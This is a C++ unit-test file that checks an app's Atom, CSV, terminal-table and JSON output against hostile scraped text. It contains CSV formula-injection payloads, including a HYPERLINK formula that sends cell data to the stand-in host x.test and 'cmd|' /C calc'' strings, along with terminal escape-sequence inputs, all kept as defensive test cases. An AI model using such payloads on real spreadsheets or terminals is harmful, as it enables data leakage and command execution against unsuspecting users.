// Hostile stored text in every output: titles and snippets scraped from pages may hold any
// bytes. The Atom feed stays well-formed XML (checked by expat, a strict parser), CSV cells do not
// run as spreadsheet formulas, the terminal table carries no control sequences, and JSON always
// serializes.
#include <cstdint>
#include <cstdio>
#include <random>
#include <string>
#include <vector>

#include <expat.h>
#include <gtest/gtest.h>

#include "app/mention_format.h"
#include "base/escape.h"

namespace kuzet::app {
namespace {

// UTF-8 bytes of `cp` by the UTF-8 bit pattern alone, without refusing surrogates or values past
// U+10FFFF: how WTF-8 and CESU-8 writers (and broken ones) emit them.
std::string EncodeLoose(uint32_t cp) {
  std::string out;
  if (cp < 0x80) {
    out += static_cast<char>(cp);
  } else if (cp < 0x800) {
    out += static_cast<char>(0xC0 | (cp >> 6));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  } else if (cp < 0x10000) {
    out += static_cast<char>(0xE0 | (cp >> 12));
    out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  } else {
    out += static_cast<char>(0xF0 | ((cp >> 18) & 0x07));
    out += static_cast<char>(0x80 | ((cp >> 12) & 0x3F));
    out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  }
  return out;
}

// A random string drawn from the awkward corners: XML specials, C0/C1 controls, noncharacters
// (U+FFFE, U+FFFF, U+FDD0.., the last two of every plane), lone surrogates in 3-byte form, code
// points of every plane, overlong and truncated sequences, values past U+10FFFF, random bytes.
std::string HostileString(std::mt19937& rng) {
  auto pick = [&](uint32_t lo, uint32_t hi) {
    return std::uniform_int_distribution<uint32_t>(lo, hi)(rng);
  };
  std::string s;
  const int pieces = static_cast<int>(pick(0, 24));
  for (int i = 0; i < pieces; ++i) {
    switch (pick(0, 12)) {
      case 0:
        s += static_cast<char>(pick(0x20, 0x7E));
        break;
      case 1:
        s += static_cast<char>(pick(0x00, 0x1F));
        break;
      case 2:
        s += EncodeLoose(pick(0x7F, 0x9F));
        break;
      case 3: {
        const char* specials[] = {"&", "<", ">", "\"", "'", "]]>", "<!--", "&amp;", "\r\n", "\t"};
        s += specials[pick(0, 9)];
        break;
      }
      case 4:
        s += EncodeLoose(pick(0, 1) ? 0xFFFE : 0xFFFF);
        break;
      case 5:
        s += EncodeLoose(pick(0xFDD0, 0xFDEF));
        break;
      case 6:
        s += EncodeLoose((pick(1, 16) << 16) | pick(0xFFFE, 0xFFFF));
        break;
      case 7:
        s += EncodeLoose(pick(0xD800, 0xDFFF));  // a lone surrogate, WTF-8 style
        break;
      case 8:
        s += EncodeLoose(pick(0x80, 0xFFFD));
        break;
      case 9:
        s += EncodeLoose(pick(0x10000, 0x10FFFF));
        break;
      case 10: {
        const char* broken[] = {"\xC0\x80", "\xE0\x80\x80",     "\xF0\x80\x80\x80",     "\xC3",
                                "\xE2\x82", "\xF4\x90\x80\x80", "\xF8\x88\x80\x80\x80", "\xFF",
                                "\x80"};
        s += broken[pick(0, 8)];
        break;
      }
      case 11:
        s += static_cast<char>(pick(0x80, 0xFF));
        break;
      default:
        s += "Жанаозен";
    }
  }
  return s;
}

struct ParsedFeed {
  bool well_formed = false;
  std::string error;
  std::vector<std::string> entry_titles, summaries;
};

// Parses with expat, which refuses what XML 1.0 forbids (invalid UTF-8, U+FFFE, U+FFFF, C0
// controls, unescaped markup), collecting the entries' titles and summaries.
ParsedFeed ParseFeed(const std::string& xml) {
  struct State {
    ParsedFeed feed;
    std::string path, text;
  } state;
  XML_Parser parser = XML_ParserCreate(nullptr);
  XML_SetUserData(parser, &state);
  XML_SetElementHandler(
      parser,
      [](void* data, const XML_Char* name, const XML_Char**) {
        auto* st = static_cast<State*>(data);
        st->path += std::string("/") + name;
        st->text.clear();
      },
      [](void* data, const XML_Char*) {
        auto* st = static_cast<State*>(data);
        if (st->path.ends_with("/entry/title")) st->feed.entry_titles.push_back(st->text);
        if (st->path.ends_with("/entry/summary")) st->feed.summaries.push_back(st->text);
        st->path.erase(st->path.rfind('/'));
      });
  XML_SetCharacterDataHandler(parser, [](void* data, const XML_Char* s, int len) {
    static_cast<State*>(data)->text.append(s, static_cast<size_t>(len));
  });
  state.feed.well_formed =
      XML_Parse(parser, xml.data(), static_cast<int>(xml.size()), 1) == XML_STATUS_OK;
  if (!state.feed.well_formed) {
    state.feed.error = std::string(XML_ErrorString(XML_GetErrorCode(parser))) + " at line " +
                       std::to_string(XML_GetCurrentLineNumber(parser));
  }
  XML_ParserFree(parser);
  return state.feed;
}

storage::Mention MentionWith(const std::string& title, const std::string& snippet) {
  storage::Mention m;
  m.id = 7;
  m.doc_id = 3;
  m.rule_id = "zhanaozen";
  m.site_id = "steppe";
  m.url = "https://steppe.test/a?b=1&c=2";
  m.lang = "ru";
  m.title = title;
  m.snippet = snippet;
  m.snippet_mark_begin = 0;
  m.snippet_mark_end = static_cast<uint32_t>(snippet.size());
  m.found_at_us = 1764400000LL * 1000000;
  return m;
}

std::string Hex(const std::string& s) {
  std::string out;
  char buf[4];
  for (unsigned char c : s) {
    std::snprintf(buf, sizeof buf, "%02X ", c);
    out += buf;
  }
  return out;
}

TEST(HostileTitleTest, NoncharacterTitleKeepsTheFeedWellFormed) {
  struct Case {
    std::string title, expected_title;
  };
  const std::vector<Case> cases = {
      {"Strike \xEF\xBF\xBE day", "Strike \xEF\xBF\xBD day"},  // U+FFFE
      {"\xEF\xBF\xBF", "\xEF\xBF\xBD"},                        // U+FFFF
      {"bell\x07 and \x1B[31mred", "bell\xEF\xBF\xBD and \xEF\xBF\xBD[31mred"},
      {"cut \xD0", "cut \xEF\xBF\xBD"},  // truncated
      {"surrogate \xED\xA0\x80!", "surrogate \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD!"},
      {"line\r\nbreak\ttab", "line\r\nbreak\ttab"},  // kept exactly
      {"<b>&amp;</b> ]]>", "<b>&amp;</b> ]]>"},
      {"Жаңаөзен 𝔘𝔫𝔦", "Жаңаөзен 𝔘𝔫𝔦"},
  };
  for (const Case& c : cases) {
    std::string xml =
        FormatMentionAtom({MentionWith(c.title, c.title)}, "tag:kuzet,2026:t", c.title, 0);
    ParsedFeed feed = ParseFeed(xml);
    ASSERT_TRUE(feed.well_formed) << Hex(c.title) << ": " << feed.error << "\n" << xml;
    ASSERT_EQ(feed.entry_titles.size(), 1u);
    EXPECT_EQ(feed.entry_titles[0], "[zhanaozen] " + c.expected_title) << Hex(c.title);
    EXPECT_EQ(feed.summaries[0], c.expected_title) << Hex(c.title);
  }
}

// The property: for any string in any field a mention has, the feed is well-formed, and text
// made only of characters XML allows comes back from the parser unchanged.
TEST(HostileTitleTest, AnyStringGivesWellFormedAtom) {
  const uint32_t seed = 20111216;  // the Zhanaozen massacre, 16 December 2011
  std::mt19937 rng(seed);
  int exact = 0;
  for (int i = 0; i < 3000; ++i) {
    storage::Mention m = MentionWith(HostileString(rng), HostileString(rng));
    m.rule_id = HostileString(rng);
    m.site_id = HostileString(rng);
    m.url = HostileString(rng);
    std::string xml = FormatMentionAtom({m}, HostileString(rng), HostileString(rng), 0);
    ParsedFeed feed = ParseFeed(xml);
    ASSERT_TRUE(feed.well_formed) << "seed " << seed << " case " << i << ": " << feed.error
                                  << "\ntitle bytes: " << Hex(m.title) << "\n"
                                  << xml;
    ASSERT_EQ(feed.summaries.size(), 1u);
    if (base::XmlEscape(m.snippet).find("\xEF\xBF\xBD") == std::string::npos &&
        m.snippet.find("\xEF\xBF\xBD") == std::string::npos) {
      EXPECT_EQ(feed.summaries[0], m.snippet) << "case " << i << ": " << Hex(m.snippet);
      ++exact;
    }
  }
  EXPECT_GT(exact, 100) << "too few clean strings to check the round trip";
}

// The same strings through the table and CSV: valid UTF-8 out, no control byte (other than the
// table's own line ends and the CSV's quoted CR/LF), no C1 control, no bidi override or isolate.
TEST(HostileTitleTest, AnyStringGivesSafeTableAndCsv) {
  std::mt19937 rng(20111216);
  auto bidi_or_c1 = [](const std::string& s) {
    for (const char* bad :
         {"\xE2\x80\xAA", "\xE2\x80\xAB", "\xE2\x80\xAC", "\xE2\x80\xAD", "\xE2\x80\xAE",
          "\xE2\x81\xA6", "\xE2\x81\xA7", "\xE2\x81\xA8", "\xE2\x81\xA9"}) {
      if (s.find(bad) != std::string::npos) return true;
    }
    for (size_t i = 0; i + 1 < s.size(); ++i) {
      unsigned char a = static_cast<unsigned char>(s[i]), b = static_cast<unsigned char>(s[i + 1]);
      if (a == 0xC2 && b >= 0x80 && b <= 0x9F) return true;
    }
    return false;
  };
  for (int i = 0; i < 2000; ++i) {
    storage::Mention m = MentionWith(HostileString(rng), HostileString(rng));
    m.site_id = HostileString(rng);
    m.url = HostileString(rng);
    uint32_t size = static_cast<uint32_t>(m.snippet.size());
    m.snippet_mark_begin = size / 3;
    m.snippet_mark_end = size - size / 3;
    std::string table = FormatMentionTable({m}, "[", "]");
    EXPECT_EQ(base::ToValidUtf8(table), table) << "case " << i << ": " << Hex(table);
    EXPECT_FALSE(bidi_or_c1(table)) << "case " << i << ": " << Hex(table);
    for (char c : table) {
      unsigned char u = static_cast<unsigned char>(c);
      ASSERT_TRUE(u >= 0x20 || u == '\n') << "case " << i << ": " << Hex(table);
      ASSERT_NE(u, 0x7F) << "case " << i;
    }
    for (const std::string& field : {m.title, m.snippet, m.site_id, m.url}) {
      std::string cell = base::CsvField(field);
      EXPECT_EQ(base::ToValidUtf8(cell), cell) << Hex(field);
      std::string value = cell;  // unquoted
      if (!value.empty() && value.front() == '"') value = value.substr(1, value.size() - 2);
      EXPECT_TRUE(value.empty() ||
                  std::string_view("=+-@\t\r").find(value.front()) == std::string_view::npos)
          << Hex(field) << " -> " << Hex(cell);
    }
  }
}

TEST(CsvInjectionTest, FormulaCellsAreNeutralized) {
  struct Case {
    std::string cell, field;
  };
  // OWASP "CSV Injection": = + - @ TAB CR start a formula in Excel, LibreOffice or Sheets.
  const std::vector<Case> cases = {
      {"=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
       "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\""},
      {"+7 (727) 000", "'+7 (727) 000"},
      {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
      {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
      {"\t=1+1", "'\t=1+1"},
      {"\r=1+1", "\"'\r=1+1\""},
      {"Strike, again", "\"Strike, again\""},
      {"a = b", "a = b"},
      {"", ""},
      {"bad \xFF byte", "bad \xEF\xBF\xBD byte"},
  };
  for (const Case& c : cases) EXPECT_EQ(base::CsvField(c.cell), c.field) << Hex(c.cell);

  // And in a whole export: the title and snippet cells.
  std::string csv = FormatMentionCsv({MentionWith("=1+1", "@cmd")});
  EXPECT_NE(csv.find(",'=1+1,'@cmd,"), std::string::npos) << csv;
}

TEST(TerminalEscapeTest, TableCarriesNoControlSequences) {
  storage::Mention m =
      MentionWith("\x1B]0;owned\x07Title\x1B[2J", "Oil \x1B[8mhidden\x9B\xE2\x80\xAE");
  m.url = "https://x.test/\r\x1B[1A";
  std::string table = FormatMentionTable({m}, "[", "]");
  for (size_t i = 0; i < table.size(); ++i) {
    unsigned char c = static_cast<unsigned char>(table[i]);
    EXPECT_TRUE(c >= 0x20 || c == '\n') << "control byte " << int(c) << " at " << i << ":\n"
                                        << table;
  }
  EXPECT_EQ(table.find("\xC2\x9B"), std::string::npos) << "C1 CSI";
  EXPECT_EQ(table.find("\xE2\x80\xAE"), std::string::npos) << "right-to-left override";
  EXPECT_NE(table.find("owned"), std::string::npos) << "the text itself stays readable";
}

TEST(InvalidUtf8Test, JsonAlwaysSerializes) {
  storage::Mention m = MentionWith("bad \xC3\x28 title", "\xED\xA0\x80");
  m.hits.push_back({"\xFF", "\xFE", 0, 1});
  std::string text;
  ASSERT_NO_THROW(text = MentionToJson(m).dump()) << "nlohmann::json refuses invalid UTF-8";
  EXPECT_NE(text.find("bad \xEF\xBF\xBD( title"), std::string::npos) << text;
}

}  // namespace
}  // namespace kuzet::app
